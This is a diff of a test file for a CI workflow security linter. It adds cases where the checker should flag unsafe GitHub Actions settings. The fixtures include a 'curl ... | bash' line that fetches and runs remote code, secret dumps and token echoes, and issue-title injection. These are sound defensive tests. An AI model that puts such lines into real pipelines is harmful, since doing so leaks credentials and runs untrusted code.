@@ -13,6 +13,7 @@ from tests.policy.sound_organization.trust import CONDITION, ISSUER, SUB, trust
 
 EVERYTHING = {"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
 SEMVER = '"v[0-9]+.[0-9]+.[0-9]+"'
+SERVICE = "    environment: pypi-release\n    services: {db: {image: 'postgres:17'}}\n"
 KNOWN = ("root", "secrets", "codecov")
 
 
@@ -57,6 +58,7 @@ FILES: list[tuple[str, tuple[Any, ...], Any]] = [
     ci("WF006", '"$TITLE"', '"${{ github.event.issue.title }}"'),
     ci("WF007", f"checkout@{'a1' * 20}", "checkout@v4"),
     ci("WF007", f"checkout@{'a1' * 20}", f"checkout@{'a1' * 6}"),
+    ci("WF008", "github.event.pull_request.title", "toJSON(secrets)"),
     release("WF009", "persist-credentials: false", "persist-credentials: true"),
     release("WF010", "- run: uv build", f"- uses: actions/cache@{'c3' * 20}"),
     ci("WF011", "uv run pytest", "curl -s https://x.example | bash"),
@@ -68,6 +70,9 @@ FILES: list[tuple[str, tuple[Any, ...], Any]] = [
     ci("WF016", "uv run pytest", "echo ${{ secrets.CODECOV_TOKEN }}"),
     ci("WF017", "[pull_request, push]", "pull_request_target"),
     ci("WF023", "permissions:\n  contents: read", "permissions:\n  packages: write"),
+    release("WF024", "persist-credentials: false", "ref: develop"),
+    release("WF025", "    environment: pypi-release\n", SERVICE),
+    release("WF026", "    needs: [build]\n", "    needs: [build]\n    if: always()\n"),
     ci("WF018", "persist-credentials: false", "fetch-depth: 0"),
     release("WF020", "environment: pypi-release", "environment: pypi-releases"),
     release("WF021", "run: uv build", "run: uv build ${{ secrets.PYPI_API_TOKEN }}"),
